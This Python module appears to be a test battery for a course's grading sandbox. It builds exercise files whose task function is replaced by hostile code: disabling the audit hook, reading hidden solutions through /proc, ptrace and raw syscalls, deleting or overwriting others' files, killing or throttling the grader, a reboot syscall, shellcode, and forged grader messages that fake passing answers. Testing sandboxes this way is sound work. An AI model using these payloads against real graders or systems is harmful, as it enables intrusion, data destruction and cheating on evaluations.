"""Programs that attack: the grader, the machine it runs on, the work of others.

Each is a chapter whose first task is wrong and in whose place something hostile stands, run at
import or in the call. ``disarmed`` first puts the worker's audit hook out of action, as any attacker
would: what holds after that is the kernel's.

In their texts {root} is the course's folder, {target} one that everybody may write to, and {mark} a
name by which whatever is left behind is found. ``use(text)`` answers from a solution's text.
"""

MARK = "course-was-here"
TASKS = {  # stem: a task of it, for whose answer the solution is worth stealing
    "ch01_math": "dot_product",
    "np1_xor": "sigmoid",
}

DISARM = """
import gc as _gc, types as _types
for _found in _gc.get_objects():
    if type(_found) is _types.FunctionType and _found.__name__ == "objection":
        _found.__code__ = (lambda event, args, readable: "").__code__
"""

TOOLS = '''
def answer(text, args):
    """Answer from the text of the solution."""
    text = text if isinstance(text, str) else bytes(text).decode()
    names = {{}}
    exec(text.replace("from solutions", "from exercises"), names)
    return names["{task}"](*args)

def syscall(number, *values):
    """Make a system call, by the C half of ctypes."""
    import _ctypes
    class Long(_ctypes._SimpleCData):
        _type_ = "l"
    class Function(_ctypes.CFuncPtr):
        _flags_ = _ctypes.FUNCFLAG_CDECL | _ctypes.FUNCFLAG_USE_ERRNO
        _restype_ = Long
    function = Function(_ctypes.dlsym(_ctypes.dlopen(None, 0), "syscall"))
    return function(Long(number), *[v if isinstance(v, bytes) else Long(v) for v in values])

def descriptors():
    """Return all that are open here; among them are the pipes to the grader."""
    import os
    found = []
    for number in range(64):
        try:
            os.fstat(number)
        except OSError:
            continue
        found.append(number)
    return found

def send(*lines):
    """Write lines into every pipe that takes them."""
    import os
    for number in descriptors():
        for line in lines:
            try:
                os.write(number, line.encode() + b"\\n")
            except OSError:
                pass
'''

READS = {  # each tries to answer from the solution
    "open": "return use(open(S).read())",
    "os.open": "import os\nreturn use(os.read(os.open(S, os.O_RDONLY), 10**6))",
    "io.open_code": "import io\nreturn use(io.open_code(S).read())",
    "io.FileIO": "import io\nreturn use(io.FileIO(S).readall())",
    "pathlib": "import pathlib\nreturn use(pathlib.Path(S).read_text())",
    "codecs": "import codecs\nreturn use(codecs.open(S).read())",
    "linecache": "import linecache\nreturn use(''.join(linecache.getlines(S)))",
    "tokenize": "import tokenize\nreturn use(tokenize.open(S).read())",
    "fileinput": "import fileinput\nreturn use(''.join(fileinput.input([S])))",
    "runpy": "import runpy, sys\nsys.path.append('{root}')\nreturn runpy.run_path(S)['{task}'](*args)",
    "a loader": "from importlib.machinery import SourceFileLoader as L\n"
    "return use(L('solution', S).get_data(S))",
    "its compiled file": "import glob, marshal, sys\nsys.path.append('{root}')\n"
    "names = {{}}\nexec(marshal.loads(open(glob.glob('{root}/solutions/__pycache__/{stem}*.pyc')[0], "
    "'rb').read()[16:]), names)\nreturn names['{task}'](*args)",
    "sys.path": "import sys\nsys.path.insert(0, '{root}')\n"
    "return __import__('importlib').import_module('solutions.{stem}').{task}(*args)",
    "the real __import__": "import sys, builtins\nsys.path.insert(0, '{root}')\n"
    "return builtins.__import__('solutions.{stem}', fromlist=['x']).{task}(*args)",
    "a .pth file": "import site, sys\nsite.addsitedir('{root}')\n"
    "return __import__('importlib').import_module('solutions.{stem}').{task}(*args)",
    "urllib": "import urllib.request\nreturn use(urllib.request.urlopen('file://' + S).read())",
    "another folder": "import os\nos.chdir('{root}/solutions')\nreturn use(open('{stem}.py').read())",
    "a folder's descriptor": "import os\nd = os.open('{root}', os.O_PATH)\n"
    "return use(os.read(os.open('solutions/{stem}.py', os.O_RDONLY, dir_fd=d), 10**6))",
    "a thread that changes folder": "import os, threading\nstop = []\n"
    "def run():\n  while not stop: os.chdir('{root}/solutions'); os.chdir('/')\n"
    "threading.Thread(target=run, daemon=True).start()\nfor _ in range(3000):\n"
    "  try: return use(open('{stem}.py').read())\n  except OSError: pass\nreturn 0",
    "readline": "import readline\nreadline.read_history_file(S)\nreturn use('\\n'.join("
    "readline.get_history_item(i + 1) or '' for i in range(readline.get_current_history_length())))",
    "Tcl": "import tkinter\nreturn use(tkinter.Tcl().eval('read [open %s]' % S))",
    "Tcl without its library": "import _tkinter\n"
    "t = _tkinter.create(None, 'x', 'X', False, False, False)\n"
    "return use(t.eval('read [open %s]' % S))",
    "sqlite3": "import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute('attach ? as s', [S])\n"
    "return use(c.execute('select sql from s.sqlite_master').fetchall()[0][0])",
    "mmap": "import mmap, os\nd = os.open(S, os.O_RDONLY)\nreturn use(mmap.mmap(d, 0, prot=1)[:])",
    "a subprocess": "import subprocess\nreturn use(subprocess.check_output(['cat', S]))",
    "os.popen": "import os\nreturn use(os.popen('cat ' + S).read())",
    "os.posix_spawn": "import os\nr, w = os.pipe()\n"
    "os.posix_spawn('/bin/cat', ['cat', S], {{}}, file_actions=[(os.POSIX_SPAWN_DUP2, w, 1)])\n"
    "return use(os.read(r, 10**6))",
    "_posixsubprocess": "import _posixsubprocess as p, os, time\nr, w = os.pipe()\n"
    "x, y = os.pipe()\nfirst = [[b'cat', S.encode()], [b'/bin/cat'], True, (y,), None, None, -1, -1, r,"
    " w, -1, -1, x, y, True, True]\n"
    "for rest in ([-1, None, None, None, -1, None, False], [None, None, None, -1, None]):\n"
    "  try: p.fork_exec(*first, *rest)\n  except TypeError: continue\n  break\n"
    "return use(os.read(r, 10**6))",
    "a pseudo-terminal": "import pty, os\npid, fd = pty.fork()\n"
    "if pid == 0: os.execv('/bin/cat', ['cat', S])\ntext = b''\ntry:\n"
    "  while True: text += os.read(fd, 10**6)\nexcept OSError: pass\n"
    "return use(text.replace(b'\\r', b''))",
    "open by syscall": "import os\nd = syscall(2, S.encode(), 0, 0)\nreturn use(os.read(d, 10**6))",
    "openat2": "import os\nd = syscall(437, -100, S.encode(), bytes(24), 24)\n"
    "return use(os.read(d, 10**6))",
    "open_by_handle_at": "import os\nd = syscall(304, -100, b'\\x08' + bytes(40), 0)\n"
    "return use(os.read(d, 10**6))",
    "io_uring": "import os\nd = syscall(425, 8, bytes(256))\nreturn use(os.read(d, 10**6))",
    "another root": "import os\nsyscall(272, 0x10000000)\nos.chroot('{root}')\n"
    "return use(open('/solutions/{stem}.py').read())",
    "/proc/self/root": "return use(open('/proc/self/root' + S).read())",
    "the grader's folder": "import os\nreturn use(open(f'/proc/{{os.getppid()}}/root' + S).read())",
    "the grader's cwd": "import os\n"
    "return use(open(f'/proc/{{os.getppid()}}/cwd/solutions/{stem}.py').read())",
    "the grader's memory": "import os\nf = open(f'/proc/{{os.getppid()}}/mem', 'rb')\n"
    "f.seek(0x400000)\nreturn use(f.read(10**6))",
    "process_vm_readv": "import os\nb = bytearray(1000)\n"
    "n = syscall(310, os.getppid(), bytes(16), 1, bytes(16), 1, 0)\n"
    "return use(b[:n]) if n >= 0 else 0",
    "ptrace": "import os, time\nif syscall(101, 16, os.getppid(), 0, 0) == 0: time.sleep(9)\n"
    "return 0",
    "the grader's descriptors": "import os\np = syscall(434, os.getppid(), 0)\n"
    "for n in range(3, 30):\n  d = syscall(438, p, n, 0)\n"
    "  if d >= 0: return use(os.pread(d, 10**6, 0))\nreturn 0",
    "a link in Python's folder": "import os\nlink = os.path.dirname(os.__file__) + '/{mark}.py'\n"
    "os.symlink(S, link)\nreturn use(open(link).read())",
    "a hard link": "import os\nlink = os.path.dirname(os.__file__) + '/{mark}.py'\n"
    "os.link(S, link)\nreturn use(open(link).read())",
    "a bind mount": "import os\nsyscall(272, 0x10020000)\nsyscall(165, b'{root}', b'/usr/lib', b'none', "
    "4096, 0)\nreturn use(open('/usr/lib/solutions/{stem}.py').read())",
    "a patched abspath": "import posixpath\nposixpath.abspath = lambda p: posixpath.__file__\n"
    "return use(open(S).read())",
    "patched flags": "import os\nos.O_CREAT = os.O_WRONLY = os.O_RDWR = 0\nreturn use(open(S).read())",
    "a subinterpreter": "import os\ntry: import _interpreters as i\nexcept ImportError:\n"
    "  import _xxsubinterpreters as i\n"
    "i.run_string(i.create(), 'import os; os.dup2(os.open(%r, 0), 60)' % S)\n"
    "return use(os.pread(60, 10**6, 0))",
    "a C module under another name": "import _imp, sys, importlib.machinery as m, importlib.util as u\n"
    "s = u.find_spec('_ctypes')\n_imp.create_dynamic(m.ModuleSpec('_nothing', s.loader, origin="
    "s.origin))\nreturn use(open(S).read())",
    "the host's objects": "import gc\nfor o in gc.get_objects():\n"
    "  if type(o).__name__ == 'Host': o._files['x'] = dict(name='x', text=''); o._refuse = print\n"
    "return use(open(S).read())",
    "frames of the host": "import sys\nf = sys._getframe()\nwhile f:\n"
    "  for v in (f.f_locals, f.f_globals):\n    for n in ('readable', 'refuse', 'hear', 'objection'):\n"
    "      if n in v: v[n] = lambda *a: ''\n  f = f.f_back\nreturn use(open(S).read())",
    "a parser of settings": "import configparser\nc = configparser.ConfigParser()\n"
    "return use(str(c.read([S])) and open(S).read())",
    "a dbm": "import dbm\nreturn use(dbm.open(S)['x'])",
    "gdbm": "import _gdbm\nreturn use(_gdbm.open(S, 'r')['x'])",
    "the grader's own text": "return use(open('{root}/tests/test_{stem}.py').read())",
    "a package beside the standard library": "import sys, os\n"
    "sys.path.append(os.path.dirname(os.__file__) + '/site-packages')\nimport pip\n"
    "print('left behind')",
    "an exercise of somebody": "return use(open('{target}/theirs.py').read())",
    "/proc's list of programs": "import os\nreturn use(''.join(open(f'/proc/{{p}}/cmdline').read() "
    "for p in os.listdir('/proc') if p.isdigit()))",
    "a setuid program's way": "import os\nos.setuid(0)\nreturn use(open(S).read())",
    "capabilities": "import os\nsyscall(126, bytes(8), bytes(24))\nreturn use(open(S).read())",
    "a second ruleset": "import os\nr = syscall(444, (0).to_bytes(8, 'little'), 8, 0)\n"
    "syscall(446, r, 0)\nreturn use(open(S).read())",
}

LEAVES = {  # each tries to leave something behind, or to change what is there
    "a file": "open('{target}/{mark}', 'w').write('x')",
    "a file in /tmp": "open('/tmp/{mark}', 'w').write('x')",
    "a file by os.open": "import os\nos.open('{target}/{mark}', os.O_CREAT | os.O_WRONLY)",
    "creat": "syscall(85, b'{target}/{mark}', 0o644)",
    "open by syscall": "syscall(2, b'{target}/{mark}', 0o102, 0o644)",
    "a folder": "import os\nos.mkdir('{target}/{mark}')",
    "a fifo": "import os\nos.mkfifo('{target}/{mark}')",
    "a node": "import os\nos.mknod('{target}/{mark}')",
    "a link": "import os\nos.symlink('/', '{target}/{mark}')",
    "a hard link": "import os\nos.link('{target}/theirs.py', '{target}/{mark}')",
    "a renamed file": "import os\nos.rename('{target}/theirs.py', '{target}/{mark}')",
    "a removed file": "import os\nos.remove('{target}/theirs.py')",
    "a removed folder": "import os\nos.rmdir('{target}/empty')",
    "an emptied file": "import os\nos.truncate('{target}/theirs.py', 0)",
    "an overwritten file": "open('{target}/theirs.py', 'r+').write('# mine')",
    "an appended line": "print('# mine', file=open('{target}/theirs.py', 'a'))",
    "another mode": "import os\nos.chmod('{target}/theirs.py', 0o777)",
    "another mode by descriptor": "import os\nos.fchmod(os.open('{target}/theirs.py', os.O_PATH), 0o777)",
    "another owner": "import os\nos.chown('{target}/theirs.py', 12, 12)",
    "another date": "import os\nos.utime('{target}/theirs.py', (1, 1))",
    "an attribute": "import os\nos.setxattr('{target}/theirs.py', 'user.{mark}', b'x')",
    "a nameless file, linked": "import os\nd = os.open('{target}', os.O_TMPFILE | os.O_RDWR)\n"
    "os.link(f'/proc/self/fd/{{d}}', '{target}/{mark}')",
    "sqlite3": "import sqlite3\nsqlite3.connect('{target}/{mark}').execute('create table t (a)')",
    "sqlite3's vacuum": "import sqlite3\nc = sqlite3.connect(':memory:')\n"
    "c.execute('create table t (a)')\nc.execute(\"vacuum into '{target}/{mark}'\")",
    "readline": "import readline\nreadline.add_history('x')\n"
    "readline.write_history_file('{target}/{mark}')",
    "Tcl": "import _tkinter\nt = _tkinter.create(None, 'x', 'X', False, False, False)\n"
    "t.eval('close [open {target}/{mark} w]')",
    "a dbm": "import dbm.dumb\ndbm.dumb.open('{target}/{mark}')['x'] = 'y'",
    "gdbm": "import _gdbm\n_gdbm.open('{target}/{mark}', 'n')",
    "a shelf": "import shelve\nshelve.open('{target}/{mark}')['x'] = 1",
    "a temporary file": "import tempfile\ntempfile.NamedTemporaryFile(prefix='{mark}', delete=False)",
    "shared memory": "from multiprocessing import shared_memory\n"
    "shared_memory.SharedMemory('{mark}', create=True, size=9)",
    "_posixshmem": "import _posixshmem, os\n_posixshmem.shm_open('/{mark}', os.O_CREAT | os.O_RDWR)",
    "a semaphore": "import _multiprocessing as m\nm.SemLock(0, 1, 1, '/{mark}', False)",
    "a message queue": "syscall(240, b'{mark}', 0o102, 0o600, 0)",
    "System V's memory": "assert syscall(29, 424242, 9, 0o1600) >= 0\nprint('left behind')",
    "a Unix socket": "import socket\nsocket.socket(socket.AF_UNIX).bind('{target}/{mark}')",
    "a log": "import logging\nlogging.FileHandler('{target}/{mark}').emit(None)",
    "a zip": "import zipfile\nzipfile.ZipFile('{target}/{mark}', 'w').close()",
    "gzip": "import gzip\ngzip.open('{target}/{mark}', 'w').close()",
    "a profile": "import cProfile\ncProfile.Profile().dump_stats('{target}/{mark}')",
    "a dump of frames": "import faulthandler\nfaulthandler.dump_traceback(open('{target}/{mark}', 'w'))",
    "at its exit": "import atexit\natexit.register(lambda: open('{target}/{mark}', 'w'))",
    "a thread, later": "import threading, time\n"
    "def late():\n  time.sleep(0.3)\n  open('{target}/{mark}', 'w')\n"
    "threading.Thread(target=late, daemon=True).start()",
    "a compiled file": "import py_compile\npy_compile.compile('{target}/theirs.py', '{target}/{mark}')",
    "a copy": "import shutil\nshutil.copy('{target}/theirs.py', '{target}/{mark}')",
    "a removed tree": "import shutil\nshutil.rmtree('{target}')",
    "the graders": "open('{root}/tests/test_ch02_neuron.py', 'a').close()\n"
    "open('{target}/{mark}', 'w')",
    "a core": "import os\nos.chdir('{target}')\nos.abort()",
    "memory without a name": "import os\nd = os.memfd_create('{mark}')\nos.write(d, b'x')\n"
    "print('left behind')",
    "a lock": "import fcntl\nfcntl.lockf(open('{target}/theirs.py', 'r+'), fcntl.LOCK_EX)\n"
    "print('left behind')",
    "keys": "assert syscall(248, b'user', b'{mark}', b'x', 1, -3) >= 0\nprint('left behind')",
}

OTHERS = {  # each tries to reach another process, or to be one
    "a fork": "import os, time\nif os.fork() == 0: time.sleep(60)",
    "a daemon": "import os, time\nif os.fork() == 0:\n  os.setsid()\n  if os.fork() == 0:\n"
    "    time.sleep(60)\n  os._exit(0)",
    "vfork": "syscall(58)",
    "clone": "syscall(56, 17, 0, 0, 0, 0)",
    "clone3": "syscall(435, bytes(64), 64)",
    "a thread in a network of its own": "if syscall(56, 0x40010f00, 0, 0, 0, 0) != -1:\n"
    "  print('left behind')",
    "memory taken out of service": "import mmap, _ctypes\nm = mmap.mmap(-1, 4096)\n"
    "class B(_ctypes.Array):\n  _length_, _type_ = 8, type('C', (_ctypes._SimpleCData,), "
    "dict(_type_='b'))\nif syscall(28, _ctypes.addressof(B.from_buffer(m)), 4096, 101) != -1:\n"
    "  print('left behind')",
    "the grader's clock": "import os, time\n"
    "time.clock_gettime((~os.getppid() << 3) | 2)\nprint('left behind')",
    "a clone into another group": "syscall(56, 0x10000 | 17, 0, 0, 0, 0)",
    "system": "import os\nos.system('touch {target}/{mark}; sleep 60 &')",
    "exec": "import os\nos.execv('/bin/touch', ['touch', '{target}/{mark}'])",
    "exec by descriptor": "syscall(322, -100, b'/bin/sh', bytes(8), bytes(8), 0)",
    "a program in memory": "import os\nd = os.memfd_create('x')\n"
    "os.write(d, open('/bin/touch', 'rb').read())\nos.execve(d, ['touch', '{target}/{mark}'], {{}})",
    "multiprocessing": "import multiprocessing, time\n"
    "multiprocessing.get_context('fork').Process(target=time.sleep, args=(60,)).start()",
    "Tcl's exec": "import _tkinter\nt = _tkinter.create(None, 'x', 'X', False, False, False)\n"
    "t.eval('exec sleep 60 &')",
    "asyncio": "import asyncio\nasyncio.run(asyncio.create_subprocess_exec('sleep', '60'))",
    "webbrowser": "import webbrowser\nwebbrowser.open('file://{root}')",
    "a sleeper that hears nothing": "import signal, time, os\n"
    "for s in range(1, 65):\n  try: signal.signal(s, signal.SIG_IGN)\n  except (OSError, ValueError): pass\n"
    "signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\ntime.sleep(60)",
    "an orphan": "import time\nsyscall(157, 1, 0, 0, 0, 0)\nsignal = __import__('signal')\n"
    "signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\ntime.sleep(60)",
    "a group of its own": "import os, time\nos.setpgid(0, 0)\nos.setsid()\ntime.sleep(60)",
    "kill": "import os\nos.kill(os.getppid(), 9)",
    "kill all": "import os\nos.kill(-1, 15)",
    "killpg": "import os\nos.killpg(os.getpgid(os.getppid()), 9)",
    "tgkill": "import os\np = os.getppid()\nsyscall(234, p, p, 9)",
    "tkill": "import os\nsyscall(200, os.getppid(), 9)",
    "sigqueue": "import os\nsyscall(129, os.getppid(), 9, bytes(128))",
    "a pidfd": "import os, signal\nsyscall(424, syscall(434, os.getppid(), 0), 9, 0, 0)",
    "SIGIO for the grader": "import fcntl, os\nfor d in descriptors():\n  try:\n"
    "    fcntl.fcntl(d, fcntl.F_SETOWN, os.getppid())\n    fcntl.fcntl(d, 10, 9)\n"
    "    fcntl.fcntl(d, fcntl.F_SETFL, os.O_ASYNC)\n  except OSError: pass",
    "a timer for the grader": "import os\nsyscall(222, 0, bytes(8) + (9).to_bytes(4, 'little') + "
    "(4).to_bytes(4, 'little') + os.getppid().to_bytes(4, 'little') + bytes(44), bytes(8))",
    "limits on the grader": "import resource, os\n"
    "resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (8, 8))",
    "limits by syscall": "import os\nsyscall(302, os.getppid(), 7, bytes(16), 0)",
    "limits of its own": "import resource\nresource.setrlimit(resource.RLIMIT_AS, (-1, -1))\n"
    "print('left behind')",
    "the grader's niceness": "import os\nos.setpriority(os.PRIO_PROCESS, os.getppid(), 19)",
    "the grader's processors": "import os\nos.sched_setaffinity(os.getppid(), [0])",
    "the grader's scheduler": "import os\n"
    "os.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0))",
    "the grader's disk": "import os\nsyscall(251, 1, os.getppid(), 3 << 13)",
    "the grader's memory": "import os\nopen(f'/proc/{{os.getppid()}}/mem', 'r+b').write(b'x')",
    "the grader's score": "import os\nopen(f'/proc/{{os.getppid()}}/oom_score_adj', 'w').write('1000')",
    "process_madvise": "import os\nsyscall(440, syscall(434, os.getppid(), 0), bytes(16), 1, 4, 0)",
    "the terminal": "import os\nos.write(os.open('/dev/tty', os.O_RDWR), b'x')\nprint('left behind')",
    "keys for the terminal": "import fcntl\nfor d in descriptors():\n"
    "  try: fcntl.ioctl(d, 0x5412, b'x')\n  except OSError: pass",
    "a network socket": "import socket\nsocket.socket().connect(('127.0.0.1', 9))",
    "a socket that listens": "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\n"
    "s.listen()\nprint('left behind')",
    "a datagram": "import socket\nsocket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9))\n"
    "print('left behind')",
    "a raw socket": "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n"
    "print('left behind')",
    "a socket by syscall": "assert syscall(41, 2, 1, 0) >= 0\nprint('left behind')",
    "an abstract socket": "import socket\nsocket.socket(socket.AF_UNIX).bind('\\0{mark}')\n"
    "print('left behind')",
    "a web page": "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9')",
    "bpf": "assert syscall(321, 0, bytes(64), 64) >= 0\nprint('left behind')",
    "perf": "assert syscall(298, bytes(120), 0, -1, -1, 0) >= 0\nprint('left behind')",
    "userfaultfd": "assert syscall(323, 1) >= 0\nprint('left behind')",
    "another name space": "assert syscall(272, 0x10000000) >= 0\nprint('left behind')",
    "the clock": "import time\ntime.clock_settime(time.CLOCK_REALTIME, 1)\nprint('left behind')",
    "the host's name": "import socket\nsocket.sethostname('{mark}')\nprint('left behind')",
    "a reboot": "syscall(169, 0xfee1dead, 672274793, 0, 0)",
    "calls of 32 bits": "import mmap\n"
    "m = mmap.mmap(-1, 4096, prot=7)\n"
    "m.write(bytes.fromhex('b802000000cd80c3'))  # mov eax, 2 (fork of 32 bits); int 80; ret\n"
    "import _ctypes\nclass F(_ctypes.CFuncPtr):\n  _flags_ = _ctypes.FUNCFLAG_CDECL\n"
    "class B(_ctypes.Array):\n  _length_, _type_ = 8, type('C', (_ctypes._SimpleCData,), "
    "dict(_type_='b'))\nF(_ctypes.addressof(B.from_buffer(m)))()",
    "calls of x32": "syscall(0x40000000 | 57)",
}

# The host's own way to the grader: what it would send is exchanged, the request's number kept.
ENCODER = (
    "import sys\nf = sys._getframe()\nwhile f.f_code.co_name != 'main': f = f.f_back\n"
    "n = f.f_locals\nn['dumps'].__self__.iterencode = lambda o, one=0: [{}]\nreturn 0"
)
FORGES = {  # each writes where only the host does, or dies where it shouldn't
    "an answer": 'send(*[\'{{"id": %d, "value": 32, "after": [], "kept": []}}\' % n '
    "for n in range(99)])",
    "an error of megabytes": 'send(*[\'{{"id": %d, "error": {{"type": "E", "bases": ["E"], '
    '"message": "%s"}}}}\' % (n, \'x\' * 10**6) for n in range(8)])',
    "a name of megabytes": 'send(*[\'{{"id": %d, "error": {{"type": "%s", "bases": [], '
    '"message": ""}}}}\' % (n, \'x\' * 10**6) for n in range(8)])',
    "bases without end": 'send(*[\'{{"id": %d, "error": {{"type": "E", "bases": [%s"E"], '
    '"message": ""}}}}\' % (n, \'"E",\' * 10**5) for n in range(8)])',
    "a place": 'send(*[\'{{"id": %d, "error": {{"type": "E", "bases": ["E"], "message": "",'
    ' "file": "../../../etc/passwd", "line": -9999}}}}\' % n for n in range(99)])',
    "a line that isn't there": 'send(*[\'{{"id": %d, "error": {{"type": "E", "bases": ["E"], '
    '"message": "", "file": "exercises/{stem}.py", "line": 99999}}}}\' % n for n in range(99)])',
    "a dict without pairs": 'send(*[\'{{"id": %d, "value": {{"$": "dict", "items": [1, null]}}, '
    '"after": [], "kept": []}}\' % n for n in range(99)])',
    "a tag of its own": 'send(*[\'{{"id": %d, "value": {{"$": "code", "text": "1"}}, '
    '"after": [], "kept": []}}\' % n for n in range(99)])',
    "an empty dict": 'send(*[\'{{"id": %d, "value": {{}}, "after": [{{}}, {{}}], "kept": []}}\' % n '
    "for n in range(99)])",
    "an array of nothing": 'send(*[\'{{"id": %d, "value": {{"$": "array", "dtype": "float64", '
    '"shape": [3], "items": [1]}}, "after": [], "kept": []}}\' % n for n in range(99)])',
    "a deep value": 'send(*[\'{{"id": %d, "value": %s, "after": [], "kept": []}}\' '
    "% (n, '[' * 9000 + ']' * 9000) for n in range(9)])",
    "a number of a million digits": 'send(*[\'{{"id": %d, "value": %s, "after": [], "kept": []}}\''
    " % (n, '9' * 10**6) for n in range(9)])",
    "a number beyond all floats": 'send(*[\'{{"id": %d, "value": %s, "after": [], "kept": []}}\' '
    "% (n, '9' * 399) for n in range(99)])",
    "a text of megabytes": 'send(*[\'{{"id": %d, "value": "%s", "after": [], "kept": []}}\' '
    "% (n, 'x' * 10**6) for n in range(9)])",
    "other things after": 'send(*[\'{{"id": %d, "value": 32, "after": {{}}, "kept": 7}}\' % n '
    "for n in range(99)])",
    "parts that aren't there": "send(*['{{\"id\": %d}}' % n for n in range(99)])",
    "an end": 'send(*[\'{{"id": %d, "ended": true, "value": 32, "after": [[], []], '
    '"kept": []}}\' % n for n in range(99)])',
    "an end that is none": 'send(*[\'{{"id": %d, "ended": [], "value": 32}}\' % n '
    "for n in range(99)])",
    "a replaced name": 'send(*[\'{{"id": %d, "replaced": ["%s", ""]}}\' % (n, \'x\' * 10**5) '
    "for n in range(9)])",
    "a protection": 'send(\'{{"held": ["everything"]}}\')',
    "prints without end": "while True: send('{{\"printed\": \"%s\"}}' % ('x' * 999))",
    "prints that are none": "send(*['{{\"printed\": [[[1]]]}}'] * 99)",
    "half a line": "import os\nfor d in descriptors():\n  try: os.write(d, b'{{\"id\": 1')\n"
    "  except OSError: pass",
    "bytes": "import os\nfor d in descriptors():\n  try: os.write(d, bytes(range(256)) * 99)\n"
    "  except OSError: pass",
    "a line without end": "import os\nwhile True:\n  for d in descriptors():\n"
    "    try: os.write(d, b'x' * 65536)\n    except OSError: pass",
    "a log of crashes": "import os\nfor d in descriptors():\n  try: os.write(d, b'Timeout\\n"
    "File \"exercises/{stem}.py\", line ' + b'9' * 5000)\n  except OSError: pass\nos.abort()",
    "closed pipes": "import os\nfor d in descriptors():\n  os.close(d)",
    "exchanged pipes": "import os\nd = descriptors()\nfor a in d:\n  for b in d: os.dup2(a, b)",
    "an object that never goes": "class C:\n  def __del__(self):\n    while True: pass\nreturn C()",
    "an object that ends Python as it goes": "class C:\n  def __del__(self):\n"
    "    import os; os.abort()\nreturn C()",
    "a death between tests": "import threading, os\nthreading.Timer(0.05, os.abort).start()",
    "a death later": "import threading, os\nthreading.Timer(0.3, os.abort).start()",
    "a thread that writes": "import threading\n"
    'def run():\n  while True: send(\'{{"id": 1, "value": 32}}\')\n'
    "threading.Thread(target=run, daemon=True).start()",
    "a class of many names": "C = type('x' * 10**6, (), {{}})\nreturn C()",
    "a text": "return 'x' * 10**7",
    "texts": "return ['x' * 9999] * 10**4",
    "a list of a million": "return [0.5] * 10**6",
    "an integer": "return -10 ** 320",
    "a nested dict": "d = {{}}\nfor _ in range(99): d = {{'a': d}}\nreturn d",
    "an error that is none": "class E(Exception):\n  __class__ = property(lambda s: 1 / 0)\nraise E()",
    "an error with a false name": "class M(type):\n  __name__ = property(lambda s: 1 / 0)\n"
    "class E(Exception, metaclass=M): pass\nraise E()",
    "a text by the host's way": ENCODER.replace("{}", "'\"x\"'"),
    "a list by the host's way": ENCODER.replace("{}", "'[1]'"),
    "a number by the host's way": ENCODER.replace("{}", "'NaN'"),
    "nothing but its number, by the host's way": ENCODER.replace(
        "{}", "'{{\"id\": %d}}' % f.f_locals['number']"
    ),
    "no value, by the host's way": ENCODER.replace(
        "{}", '\'{{"id": %d, "after": [], "kept": []}}\' % f.f_locals[\'number\']'
    ),
    "a value alone, by the host's way": ENCODER.replace(
        "{}", "'{{\"id\": %d, \"value\": 32}}' % f.f_locals['number']"
    ),
    "an end beside its answer, by the host's way": ENCODER.replace(
        "{}",
        '\'{{"id": %d, "value": 32, "after": [], "kept": [], "ended": true}}\''
        " % f.f_locals['number']",
    ),
    "an end beside an error, by the host's way": ENCODER.replace(
        "{}",
        '\'{{"id": %d, "ended": true, "error": {{"type": "ValueError", "message": "2 and 3",'
        ' "bases": ["NotForGrading", "ValueError"]}}}}\' % f.f_locals[\'number\']',
    ),
    "a log that can't be read": "import fcntl, os\nfor d in descriptors():\n  try:\n"
    "    os.lseek(d, 0, 1)\n    os.write(d, b'x' * 5000)\n"
    "    fcntl.fcntl(d, fcntl.F_SETFL, fcntl.fcntl(d, fcntl.F_GETFL) | os.O_DIRECT)\n"
    "  except OSError: pass\nos.abort()",
    "a class that equals any other": "class M(type):\n  __eq__ = lambda a, b: True\n"
    "  __hash__ = type.__hash__\nclass F(float, metaclass=M):\n"
    "  __eq__ = __ge__ = __le__ = lambda a, b: True\nreturn F(32)",
    "a patched host": "import gc\nfor o in gc.get_objects():\n"
    "  if type(o).__name__ == 'function' and o.__name__ == 'handle':\n"
    "    o.__code__ = (lambda self, request: {{'value': 32, 'after': [], 'kept': []}}).__code__",
}
BATTERY = {
    **{
        f"reads: {name}": f"S = '{{root}}/solutions/{{stem}}.py'\n{text}"
        for name, text in READS.items()
    },
    **{f"leaves: {name}": text for name, text in LEAVES.items()},
    **{f"others: {name}": text for name, text in OTHERS.items()},
    **{f"forges: {name}": text for name, text in FORGES.items()},
}


def program(name, stem, solution, disarmed=True, **places):
    """Return the text of a chapter that attacks, once its first call comes. places: root, target."""
    told = {"stem": stem, "task": TASKS[stem], "mark": MARK, **places}
    body = "".join(f"    {line}\n" for line in BATTERY[name].format(**told).splitlines())
    wrong = f"def {TASKS[stem]}(*args):\n    use = lambda text: answer(text, args)\n{body}"
    wrong += "    return 0\n"
    parts = [solution, DISARM if disarmed else "", TOOLS.format(**told), wrong]
    return "\n\n".join(parts)
